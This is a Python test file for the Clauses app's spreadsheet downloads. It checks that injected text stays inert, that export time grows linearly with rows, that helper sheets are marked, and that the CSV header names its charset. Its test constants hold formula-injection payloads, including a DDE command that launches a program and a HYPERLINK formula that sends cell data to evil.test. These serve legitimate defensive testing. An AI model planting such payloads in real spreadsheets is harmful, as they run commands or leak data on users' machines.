"""The files Clauses writes for download: no text cell becomes a formula, each file costs time
in proportion to its rows, the template marks its helper sheets, and the CSV names its charset
once."""

import csv
import io
import re
import time
import zipfile
from collections.abc import Callable, Mapping
from datetime import date, datetime

import openpyxl
import pytest

from imports import write
from imports.rejected import rejected_rows_workbook
from imports.template import KnownPerson, template_workbook
from tests.conftest import login
from tests.factories import HourEntryFactory, ParticipantFactory
from tests.test_import_pipeline import HEADER
from tests.test_imports_web import confirm, upload

# Text a spreadsheet would run: a formula, a command (DDE), and the other characters that start
# one (a carriage return cannot travel through a workbook's XML unchanged: see the CSV test).
FORMULAS = ("=2+3", "=cmd|' /C calc'!A0", "+33 1 23", "-X", "@SUM(A1)", "\tTAB")
HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"Voir")'


def text_xlsx(rows: list[list[object]]) -> bytes:
    """A workbook whose text cells are text, as a contractor typing '=2+3 in Excel sends it."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Heures"
    for row in rows:
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def assert_no_formula(content: bytes) -> None:
    """No worksheet of the .xlsx holds a formula element (data validations use <formula1>)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert re.search(r"<f[ >]", xml) is None, name


def column(sheet: object, header: str) -> list[openpyxl.cell.Cell]:
    rows = list(sheet.iter_rows())  # type: ignore[attr-defined]
    index = [cell.value for cell in rows[0]].index(header)
    return [row[index] for row in rows[1:]]


# Formula injection -----------------------------------------------------------------------------


def test_rejected_rows_come_back_as_text_and_numbers_stay_numbers(client, world):
    login(client, world.contractor)
    reference, person = world.contract.reference, world.participant
    month, birth = date(2024, 1, 1), date(1990, 5, 4)
    rows = [
        HEADER,
        [reference, person.last_name, person.first_name, person.birth_date, month, 35, "CDI"],
        *([reference, name, "Awa", birth, month, -3, "CDI"] for name in FORMULAS),
    ]
    detail_url = confirm(client, upload(client, text_xlsx(rows)).headers["Location"])
    content = client.get(f"{detail_url.headers['Location']}/rejected.xlsx").data

    assert_no_formula(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert [(cell.value, cell.data_type) for cell in column(sheet, "Nom")] == [
        (name, "s") for name in FORMULAS
    ]
    assert {(cell.value, cell.data_type) for cell in column(sheet, "Heures")} == {(-3, "n")}
    assert {cell.value for cell in column(sheet, "Date de naissance")} == {datetime(1990, 5, 4)}


def test_template_lists_people_as_text(client, world):
    person = ParticipantFactory(last_name=HYPERLINK, first_name="=2+3", birth_date=date(1988, 2, 3))
    HourEntryFactory(contract=world.contract, participant=person)
    login(client, world.contractor)
    content = client.get("/imports/template.xlsx").data

    assert_no_formula(content)
    people = openpyxl.load_workbook(io.BytesIO(content))["Personnes"]
    [row] = [row for row in people.iter_rows(min_row=2) if row[0].value == HYPERLINK]
    assert [(cell.value, cell.data_type) for cell in row[:2]] == [(HYPERLINK, "s"), ("=2+3", "s")]
    assert (row[2].value, row[2].number_format) == (datetime(1988, 2, 3), "DD/MM/YYYY")


@pytest.mark.parametrize("text", [*FORMULAS, "\rCR"])
def test_csv_text_that_looks_like_a_formula_gets_an_apostrophe(text):
    assert write.csv_text(text) == "'" + text
    assert write.csv_text("Saint-Denis = 93") == "Saint-Denis = 93"


def test_dashboard_exports_write_text_as_text(client, world):
    world.contract.title = HYPERLINK
    world.contract.operation.name = "-1+1"
    login(client, world.facilitator)
    query = {"status": "all", "as_of": "2024-04-08"}

    content = client.get("/export", query_string={**query, "format": "xlsx"}).data
    assert_no_formula(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    [title] = [cell for cell in column(sheet, "Intitulé") if cell.value == HYPERLINK]
    assert title.data_type == "s"
    assert {cell.data_type for cell in column(sheet, "Heures prévues")} == {"n"}

    text = client.get("/export", query_string={**query, "format": "csv"}).data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    [row] = [row for row in rows if row["Intitulé"] == "'" + HYPERLINK]
    assert row["Opération"] == "'-1+1"


# Cost in proportion to the rows ----------------------------------------------------------------


def cpu_seconds(write: Callable[[], bytes]) -> float:
    """The best of three runs, in CPU time: other processes on the machine count for little."""
    best = float("inf")
    for _ in range(3):
        start = time.process_time()
        write()
        best = min(best, time.process_time() - start)
    return best


def growth(write_for: Callable[[int], Callable[[], bytes]], size: int) -> float:
    """How much longer four times the rows take: about 4 when linear, 16 when quadratic."""
    small, large = write_for(size), write_for(4 * size)
    return cpu_seconds(large) / cpu_seconds(small)


def rejected_download(size: int) -> Callable[[], bytes]:
    rows = [
        HEADER,
        *(["M-1", f"NOM{n}", "Awa", date(1990, 1, 1), "01/2024", -3, "CDI"] for n in range(size)),
    ]
    content = text_xlsx(rows)
    errors = [
        {"sheet": "Heures", "row": row, "code": "hours_negative", "params": {"hours": "-3"}}
        for row in range(2, size + 2)
    ]
    return lambda: rejected_rows_workbook(content, errors, reason, ("Ligne", "Motif du rejet"))


def reason(error: Mapping[str, object]) -> str:
    """An error's reason, as the page renders it (the writing is what is measured here)."""
    return f"heures négatives ({error['params']})"


def template_download(size: int) -> Callable[[], bytes]:
    people = [KnownPerson(f"NOM{n}", "Awa", date(1990, 1, 1)) for n in range(size)]
    return lambda: template_workbook(["M-1", "M-2"], people, date(2024, 4, 8))


# The template has a fixed part (its data sheet), so it needs more people to show a square.
@pytest.mark.parametrize(
    ("write_for", "size"), [(rejected_download, 1_000), (template_download, 2_000)]
)
def test_downloads_grow_linearly_with_their_rows(write_for, size):
    assert growth(write_for, size) < 6


# The template's helper sheets ------------------------------------------------------------------


def test_template_marks_exactly_its_helper_sheets(client, world):
    login(client, world.contractor)
    workbook = openpyxl.load_workbook(io.BytesIO(client.get("/imports/template.xlsx").data))

    assert workbook.sheetnames == ["Heures", "Listes", "Personnes", "Consignes"]
    assert {name: value.attr_text for name, value in workbook.defined_names.items()} == {
        "ClausesHelperSheet1": "'Listes'!$A$1",
        "ClausesHelperSheet2": "'Personnes'!$A$1",
        "ClausesHelperSheet3": "'Consignes'!$A$1",
    }


# The CSV's header ------------------------------------------------------------------------------


def test_csv_export_names_its_charset_once(client, world):
    login(client, world.facilitator)
    response = client.get("/export", query_string={"format": "csv"})
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
